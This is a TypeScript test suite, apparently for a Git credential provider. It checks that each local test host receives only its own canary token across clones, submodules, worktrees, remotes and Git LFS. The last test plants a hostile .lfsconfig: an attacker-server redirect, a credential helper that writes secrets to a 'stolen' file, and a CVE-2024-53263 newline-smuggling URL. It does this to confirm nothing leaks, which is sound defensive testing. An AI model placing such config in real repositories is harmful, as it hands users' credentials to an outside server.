import { existsSync } from 'node:fs';
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { sample } from '../core/sampleProviders';
import { startGitServer, type GitServer } from './gitServer';
import { createGitWorld, type GitWorld } from './gitWorld';
import { providerSource, type ProviderSource } from './providerSource';
import type { Outcome } from './runProgram';

const tokens = { acme: 'canary-of-acme', globex: 'canary-of-globex' };
const elsewhere = { initech: 'canary-of-initech' };
let world: GitWorld;
let here: GitServer;
let there: GitServer;
let source: ProviderSource;
let env: Record<string, string | undefined>;

beforeEach(async () => {
  world = await createGitWorld();
  const folder = async (name: string): Promise<string> => {
    await mkdir(join(world.directory, name));
    return join(world.directory, name);
  };
  here = await startGitServer(await folder('here'), tokens);
  there = await startGitServer(await folder('there'), elsewhere);
  source = await providerSource([
    [sample(here.origin, { organization: 'acme' }), tokens.acme],
    [sample(here.origin, { organization: 'globex' }), tokens.globex],
    [sample(there.origin), elsewhere.initech],
  ]);
  const side = await world.openWindow('w1', source, source.claims);
  const author = { GIT_AUTHOR_NAME: 'a', GIT_AUTHOR_EMAIL: 'a@b' };
  env = { ...world.terminal(side), ...author, GIT_COMMITTER_NAME: 'a', GIT_COMMITTER_EMAIL: 'a@b' };
});

afterEach(async () => {
  here.close();
  there.close();
  await world.close();
});

const clone = (): string => join(world.directory, 'clone');
const url = (server: GitServer, organization: string): string => `${server.origin}/${organization}/repo.git`;

async function git(...words: string[]): Promise<Outcome> {
  const outcome = await world.git(env, words);
  expect(outcome, `${words.join(' ')}: ${outcome.stderr}`).toMatchObject({ code: 0 });
  return outcome;
}

/** Logins as the hosts saw them since the last call. */
function logins(): { readonly here: readonly string[]; readonly there: readonly string[] } {
  const seen = { here: [...new Set(here.logins)].sort(), there: [...new Set(there.logins)].sort() };
  here.logins.length = 0;
  there.logins.length = 0;
  return seen;
}

const ofAcme = 'acme x-access-token:canary-of-acme';
const ofGlobex = 'globex x-access-token:canary-of-globex';
const ofInitech = 'initech x-access-token:canary-of-initech';

describe('Git in all its forms, seen from the hosts', () => {
  it('clones, commits, pushes and pulls', async () => {
    await git('clone', '-q', url(here, 'acme'), clone());
    await writeFile(join(clone(), 'file'), 'text');
    await git('-C', clone(), 'add', '.');
    await git('-C', clone(), 'commit', '-q', '-m', 'more');
    await git('-C', clone(), 'push', '-q');
    await git('-C', clone(), 'pull', '-q');
    expect(logins()).toEqual({ here: [ofAcme], there: [] });
    expect(await world.askpassSaw()).toBe('');
  });

  it('updates submodules of another organization and of another origin with the credential of each', async () => {
    await git('clone', '-q', url(here, 'acme'), clone());
    const add = (address: string, name: string) =>
      git('-C', clone(), 'submodule', '--quiet', 'add', address, name);
    await add('../../globex/repo.git', 'relative');
    await add(url(there, 'initech'), 'elsewhere');
    await git('-C', clone(), 'commit', '-q', '-m', 'submodules');
    await git('-C', clone(), 'push', '-q');
    logins();
    const second = join(world.directory, 'second');
    await git('clone', '-q', '--recurse-submodules', '--jobs', '4', url(here, 'acme'), second);
    expect(logins()).toEqual({ here: [ofAcme, ofGlobex], there: [ofInitech] });
    await git('-C', second, 'submodule', '--quiet', 'foreach', 'git fetch -q');
    expect(logins()).toEqual({ here: [ofGlobex], there: [ofInitech] });
    await git('-C', second, 'fetch', '-q', '--recurse-submodules', '--jobs=4', '--all');
    expect(logins().here).toContain(ofAcme);
    expect(await world.askpassSaw()).toBe('');
  }, 30_000);

  it('fetches and pushes in worktrees', async () => {
    await git('clone', '-q', url(here, 'globex'), clone());
    logins();
    const tree = join(world.directory, 'tree');
    await git('-C', clone(), 'worktree', 'add', '-q', '-b', 'side', tree);
    await git('-C', tree, 'commit', '-q', '--allow-empty', '-m', 'side');
    await git('-C', tree, 'push', '-q', 'origin', 'side');
    await git('-C', tree, 'fetch', '-q');
    expect(logins()).toEqual({ here: [ofGlobex], there: [] });
  });

  it('fetches in a partial clone what is missing, when it is needed', async () => {
    await git('clone', '-q', url(here, 'acme'), clone());
    await writeFile(join(clone(), 'file'), 'text');
    await git('-C', clone(), 'add', '.');
    await git('-C', clone(), 'commit', '-q', '-m', 'more');
    await git('-C', clone(), 'push', '-q');
    const partial = join(world.directory, 'partial');
    await git('clone', '-q', '--filter=blob:none', '--no-checkout', url(here, 'acme'), partial);
    logins();
    expect((await git('-C', partial, 'show', 'HEAD:file')).stdout).toBe('text');
    expect(logins()).toEqual({ here: [ofAcme], there: [] });
  });

  it('of several remotes and of a push address gives each its own', async () => {
    await git('clone', '-q', url(here, 'acme'), clone());
    await git('-C', clone(), 'remote', 'add', 'other', url(there, 'initech'));
    await git('-C', clone(), 'remote', 'set-url', '--push', 'origin', url(here, 'globex'));
    logins();
    await git('-C', clone(), 'fetch', '-q', '--multiple', '--jobs=2', 'origin', 'other');
    expect(logins()).toEqual({ here: [ofAcme], there: [ofInitech] });
    await git('-C', clone(), 'push', '-q', 'origin', 'HEAD:refs/heads/pushed');
    expect(logins()).toEqual({ here: [ofGlobex], there: [] });
  });

  it('that is told to use no helper does not get ours', async () => {
    const told = await world.git(env, ['-c', 'credential.helper=', 'ls-remote', url(here, 'acme')]);
    expect(told.code).toBe(128);
    expect(logins().here).toEqual(['acme typed:typed']);
    expect(source.answered).toEqual([]);
  });

  it('finds its credential through a rewritten address', async () => {
    const rewritten = ['-c', `url.${here.origin}/.insteadOf=short:`, 'ls-remote', 'short:globex/repo.git'];
    await git(...rewritten);
    expect(logins().here).toEqual([ofGlobex]);
  });
});

const hasLfs = ['/usr/bin/git-lfs', '/usr/local/bin/git-lfs'].some(existsSync);
if (!hasLfs) console.info('Git LFS is not looked at: this machine has no git-lfs.');

describe.runIf(hasLfs)('Git LFS, seen from the hosts', () => {
  const content = 'a large file\n'.repeat(1000);
  const local = (name: string): string => join(world.directory, name);

  async function pushLargeFile(configure: () => Promise<unknown> = () => Promise.resolve()): Promise<void> {
    await git('lfs', 'install', '--skip-repo');
    await git('clone', '-q', url(here, 'acme'), clone());
    await git('-C', clone(), 'lfs', 'install', '--local');
    await git('-C', clone(), 'lfs', 'track', '*.bin');
    await writeFile(join(clone(), 'large.bin'), content);
    await configure();
    await git('-C', clone(), 'add', '.');
    await git('-C', clone(), 'commit', '-q', '-m', 'large');
    await git('-C', clone(), 'push', '-q');
  }

  it('pushes and checks out with the credential of the repository', async () => {
    await pushLargeFile();
    expect(logins()).toEqual({ here: [ofAcme], there: [] });
    await git('clone', '-q', url(here, 'acme'), local('second'));
    expect(await readFile(join(local('second'), 'large.bin'), 'utf8')).toBe(content);
    expect(logins()).toEqual({ here: [ofAcme], there: [] });
    expect(await world.askpassSaw()).toBe('');
  }, 30_000);

  it('kept at another host of ours gets that host’s credential', async () => {
    await pushLargeFile(() =>
      writeFile(join(clone(), '.lfsconfig'), `[lfs]\n\turl = ${url(there, 'initech')}/info/lfs\n`),
    );
    expect(logins()).toEqual({ here: [ofAcme], there: [ofInitech] });
  }, 30_000);

  it('does not knock for ever where the host refuses the token', async () => {
    await expect(
      pushLargeFile(() =>
        writeFile(join(clone(), '.lfsconfig'), `[lfs]\n\turl = ${url(there, 'unknown')}/info/lfs\n`),
      ),
    ).rejects.toThrow();
    expect(there.logins.length).toBeGreaterThan(0);
    expect(there.logins.length).toBeLessThan(30);
    expect(new Set(there.logins)).toEqual(new Set(['unknown x-access-token:canary-of-initech']));
  }, 30_000);

  it('of a repository that names a stranger’s server shows it nothing of ours', async () => {
    await mkdir(local('stranger'));
    const stranger = await startGitServer(local('stranger'), { evil: 'nobody-knows' });
    // Git LFS asks again as long as somebody answers.
    env = { ...env, GIT_ASKPASS: '/bin/false' };
    const pushed = pushLargeFile(async () => {
      const lines = [
        `[lfs]\n\turl = ${url(stranger, 'evil')}/info/lfs\n`,
        `[credential]\n\thelper = "!cat >'${local('stolen')}'"\n\tuseHttpPath = false\n`,
        `[url "${stranger.origin}/"]\n\tinsteadOf = ${here.origin}/\n`,
      ];
      await writeFile(join(clone(), '.lfsconfig'), lines.join(''));
    });
    await expect(pushed).rejects.toThrow(stranger.origin);
    stranger.close();
    expect(stranger.logins).toEqual([]);
    expect(existsSync(local('stolen'))).toBe(false);
    // CVE-2024-53263: control characters in the address of a server.
    const bad = `[lfs]\n\turl = ${here.origin}/acme%0ahost=evil/repo.git/info/lfs\n`;
    await writeFile(join(clone(), '.lfsconfig'), bad);
    const before = source.answered.length;
    const second = await world.git(env, ['-C', clone(), 'lfs', 'push', '--all', 'origin']);
    expect(second.code).not.toBe(0);
    const paths = source.answered.slice(before).map(({ path }) => path ?? '');
    expect(paths.filter((path) => path.includes('evil'))).toEqual([]);
  }, 30_000);
});
